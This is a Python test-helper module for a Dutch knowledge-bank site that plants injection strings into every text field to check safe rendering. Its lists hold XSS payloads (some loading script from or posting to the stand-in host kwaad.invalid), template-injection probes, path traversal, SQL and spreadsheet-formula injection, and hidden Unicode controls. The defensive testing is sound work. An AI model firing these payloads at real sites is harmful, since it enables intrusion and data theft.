"""Texts that try to run, to load or to break out; and a bank that holds them past the model."""

from collections.abc import Callable, Iterator
from typing import Any

from pydantic import BaseModel

from kennisbank.model import Bron, Kennisbank, Record, Regio
from kennisbank.model.doorverwijzing import Doorverwijzing
from tests.builders import (
    BRONNEN,
    a_bank,
    a_full_element,
    a_full_praktijk,
    a_full_rapport,
    a_woonplaatsen,
    a_zoekwoord,
)

# What a record never holds: HTML, template code, Markdown, entities and signs that are not seen.
REFUSED = (
    # elements that run
    "<script>kb()</script>",
    "</title><script>kb()</script>",
    "</textarea><script>kb()</script>",
    "</script><script>kb()</script>",
    "--><script>kb()</script>",
    "]]><script>kb()</script>",
    "<SCRIPT SRC=//kwaad.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>kb()</scr</script>ipt>",
    "<script\n>kb()</script\n>",
    "<img src=x onerror=kb()>",
    "<img src='//kwaad.invalid/x.png'>",
    "<svg onload=kb()>",
    "<svg><script>kb()</script></svg>",
    "<svg/onload=kb()//",
    "<svg><animate onbegin=kb() attributeName=x>",
    "<math><mtext></mtext><img src onerror=kb()></math>",
    "<math href=javascript:kb()>x</math>",
    "<body onload=kb()>",
    "<iframe src=javascript:kb()></iframe>",
    "<iframe srcdoc='<script>parent.kb()</script>'>",
    "<object data=data:text/html,<script>kb()</script>>",
    "<embed src=//kwaad.invalid/x.swf>",
    "<a href=javascript:kb()>x</a>",
    "<form action=//kwaad.invalid><button>x</button></form>",
    "<input autofocus onfocus=kb()>",
    "<details open ontoggle=kb()>x</details>",
    "<video><source onerror=kb()></video>",
    "<marquee onstart=kb()>x</marquee>",
    "<style>@import '//kwaad.invalid/x.css';</style>",
    "<link rel=stylesheet href=//kwaad.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//kwaad.invalid'>",
    "<base href=//kwaad.invalid/>",
    "<template><script>kb()</script></template>",
    "<noscript><p title='</noscript><img src onerror=kb()>'>",
    "<xmp><script>kb()</script></xmp>",
    "<plaintext>",
    "<!-- de rest is weg",
    "<!DOCTYPE x>",
    "<?php kb() ?>",
    "<![CDATA[<script>kb()</script>]]>",
    "</main></body></html>",
    "<b>vet</b>",
    # breaking out of an attribute
    '"><script>kb()</script>',
    "'><script>kb()</script>",
    '"><img src=x onerror=kb()>',
    # code of templates
    "{{ 7 * 191 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}",
    "{# weg #}",
    "{{ thema('veiligheid') }}",
    "}} x {{",
    # Markdown
    "[klik](javascript:kb())",
    "[klik](//kwaad.invalid)",
    "![x](//kwaad.invalid/x.png)",
    "# Kop van een ander",
    "- punt van een lijst",
    "* punt van een lijst",
    "**vet** en __vet__",
    "`kb()`",
    "```\nkb()\n```",
    "tekst\n# Kop op de tweede regel",
    # entities
    "&lt;script&gt;kb()&lt;/script&gt;",
    "&#60;script&#62;kb()&#60;/script&#62;",
    "&#x3c;script&#x3e;kb()&#x3c;/script&#x3e;",
    "&quot; onload=&quot;kb()",
    "java&#10;script:kb()",
    # signs that are not seen
    "tekst\u202etsket",
    "tekst\u2066draai\u2069om",
    "tekst\u200fdraai",
    "nul\u200bbreedte",
    "nul\x00teken",
    "regel\u2028kb()",
    "bel\x07 en kleur\x1b[31m",
    "merk\ufeffmidden",
    "vlag\U000e0041\U000e007f",
    "tekst\u0085kb()",
)
# What a record may hold, for nothing in it has a meaning on our pages: it is shown as it is.
PLAIN = (
    "javascript:kb()",
    "JaVaScRiPt:kb()",
    "javascript\t:kb()",
    "vbscript:kb()",
    "data:text/html,kb()",
    "data:text/html;base64,PHNjcmlwdD5rYigpPC9zY3JpcHQ+",
    "file:///etc/passwd",
    "//kwaad.invalid/x.js",
    "https://kwaad.invalid/x.js",
    "http://kwaad.invalid",
    "\\\\kwaad.invalid\\x",
    '" onmouseover=kb() x="',
    "' onmouseover=kb() x='",
    '" autofocus onfocus="kb()',
    '"; kb(); //',
    "'; kb(); //",
    "'-kb()-'",
    '");kb();("',
    '\\"; kb(); //',
    "\\u003cscript\\u003ekb()\\u003c/script\\u003e",
    "\\x3cscript\\x3ekb()\\x3c/script\\x3e",
    "%3Cscript%3Ekb()%3C/script%3E",
    "${kb()}",
    "#{kb()}",
    "$(kb)",
    "<%= kb() %>",
    "<< kb >>",
    "< script>kb()< /script>",
    "＜script＞kb()＜/script＞",
    "‹script›kb()‹/script›",
    "{: onclick=kb() }",
    "{: .kb-verborgen #inhoud }",
    "kbplektitel kbplekomschrijving",
    "kbplekinhoud",
    "praktijken/sjabloon/",
    "\\1 \\g<0> \\n",
    "%s %(x)s {0} {x}",
    "[klik][1]",
    "[x]: javascript:kb()",
    "*cursief* en _cursief_",
    "~~weg~~ ==geel==",
    "| a | b |",
    "1. eerste punt",
    "> citaat",
    "--- en * * * en _ _ _",
    "    ingesprongen",
    "!!! note",
    "/// details",
    ":smile: @iemand",
    '#eval("kb()")',
    '#import "x.typ": *',
    '#read("/etc/passwd")',
    "$x$ en @bron en < label >",
    "\\input{/etc/passwd}",
    '=HYPERLINK("//kwaad.invalid")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "BEGIN:VEVENT END:VCALENDAR",
    "a, b; c: d",
    "– – –",
    "gеmeente (met een Cyrillische е)",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "ﷺ ﷽ 𒐫",
    "🏴 👩‍👩‍👧 é e\u0301",
    "עברית en العربية",
    "constructor prototype",
    "null undefined NaN true",
    "'; DROP TABLE praktijken; --",
    "../../../etc/passwd",
    "C:\\Windows\\x",
)
ATTACKS = (*REFUSED, *PLAIN)

KEPT = {
    # What refers to something or chooses from a fixed list, and what stays a number or a date.
    *("id", "kenmerk", "soort", "herkomst", "status", "doelgroepen", "regio", "gemeente", "themas"),
    *("thema", "indicatoren", "vragen", "vraag", "verwant", "vervangen_door", "bron", "criteria"),
    *("element", "elementen", "indicator", "normen", "betekenis", "sterkte"),
    *("kaderthema", "hoofdvraag", "operationalisering", "toedeling_redactie", "van", "naar"),
    *("oud_kenmerk", "praktijken", "vervolg"),
}
ADDRESSES = ("url", "webadres", "email")  # an attack stands here alone
Loc = tuple[str | int, ...]
Turn = Callable[[str, str, str], str]  # (model, field, value) -> the value with an attack


def dated(bron: Bron) -> Bron:
    """The source with the time that it is from."""
    return Bron(**dict(bron) | {"tijd": f"rapport uit 2020, {bron.kort}"})


def a_whole_bank() -> Kennisbank:
    """The small bank, with every field of text filled somewhere."""
    bank = a_bank()
    full = a_full_praktijk(
        contact={"afdeling": "Wijkteam", "email": "wijkteam@wijchen.nl", "telefoon": "024 123456"},
    )
    gone = a_full_praktijk(
        id="weg", kenmerk="WIJ-G99", casus=(), status="ingetrokken", reden="Niet meer in gebruik."
    )
    zeeland = dict(bank.regios["zeeland"])
    named = Regio(**zeeland | {"naam_cbs": "Zeeland (VT)", "onderzocht": None})
    jaar = Regio(
        **dict(bank.regios["haaglanden"]) | {"onderzocht": {"jaar": "2019", "bronnen": BRONNEN}}
    )
    old = a_full_element(
        id="oud-element", kenmerk="WEL-E99", status="verouderd", reden="Het staat nu elders."
    )
    moved = Doorverwijzing(van="oud", naar="korte-lijnen", reden="Het heet nu anders.")
    return a_bank(
        praktijken={**bank.praktijken, full.id: full, gone.id: gone},
        regios={**bank.regios, named.id: named, jaar.id: jaar},
        elementen={**bank.elementen, old.id: old},
        doorverwijzingen={moved.van: moved},
        bronnen={name: dated(bron) for name, bron in bank.bronnen.items()},
        rapporten={**bank.rapporten, "wijchen": a_full_rapport()},
        zoektaal=(a_zoekwoord(hulp="Bent u in gevaar? Bel 112.", bron="rapport-wijchen"),),
        woonplaatsen=(a_woonplaatsen(vroeger=("Balgoij",)),),
    )


def is_kept(name: str, value: Any) -> bool:
    """Whether this field refers or chooses; `indicatoren` may also be the records themselves."""
    first = value[0] if isinstance(value, tuple) and value else value
    return name in KEPT and not isinstance(first, Record)


def leaves(value: Any, loc: Loc = ()) -> Iterator[tuple[Loc, str, str, str]]:
    """Every text in the records: (where, model, field, text)."""
    if isinstance(value, BaseModel):
        for name, inner in dict(value).items():
            if not is_kept(name, inner):
                yield from named_leaves(inner, (*loc, name), type(value).__name__, name)


def named_leaves(
    value: Any, loc: Loc, model: str, name: str
) -> Iterator[tuple[Loc, str, str, str]]:
    """The texts in one field."""
    if isinstance(value, str):
        yield loc, model, name, value
    elif isinstance(value, tuple):
        for index, item in enumerate(value):
            yield from named_leaves(item, (*loc, index), model, name)
    else:
        yield from leaves(value, loc)


def turned(value: Any, turn: Turn, model: str = "", name: str = "") -> Any:
    """The value with each of its texts turned, past the checks of the model."""
    if isinstance(value, str):
        return turn(model, name, value)
    if isinstance(value, tuple):
        return tuple(turned(item, turn, model, name) for item in value)
    if isinstance(value, BaseModel):
        own = type(value).__name__
        fields = {
            field: inner if is_kept(field, inner) else turned(inner, turn, own, field)
            for field, inner in dict(value).items()
        }
        return type(value).model_construct(**fields)
    return value


def turned_bank(turn: Turn) -> Kennisbank:
    """The whole bank with each of its texts turned."""
    bank = a_whole_bank()
    tables = {
        name: turned(table, turn)
        if isinstance(table, BaseModel)
        else {key: turned(record, turn) for key, record in table.items()}
        for name, table in vars(bank).items()
    }
    return Kennisbank(**tables)


def fields_of(bank: Kennisbank) -> list[tuple[str, str]]:
    """Every kind of record with each of its fields of text."""
    records = [
        record
        for table in vars(bank).values()
        for record in (table.values() if isinstance(table, dict) else (table,))
    ]
    return sorted({(model, name) for record in records for _, model, name, _ in leaves(record)})


FIELDS = fields_of(a_whole_bank())


# A turn of its own: what ends each place that a text may stand in, and what then runs.
AT_ONCE = -1
MIX = (
    "'\"></script></style></title></textarea><img src=x onerror=kb()><b>x</b> {{ 7 * 191 }} ${kb()}"
)
MIX_ADDRESS = "javascript:kb()//'\"><img src=x onerror=kb()>"


def attack_of(model: str, name: str, turn: int) -> str:
    """The attack in this field at this turn: over all turns each field has each attack."""
    if turn == AT_ONCE:
        return MIX_ADDRESS if name in ADDRESSES else MIX
    return ATTACKS[(FIELDS.index((model, name)) + turn) % len(ATTACKS)]


def attacked_bank(turn: int | None) -> Kennisbank:
    """The bank at a turn, each field with another attack; without a turn as it should be."""

    def attack(model: str, name: str, value: str) -> str:
        if turn is None or name == "afkorting":  # that decides what is explained: it goes apart
            return value
        found = attack_of(model, name, turn)
        return found if name in ADDRESSES else f"{found} {value}"

    return turned_bank(attack)
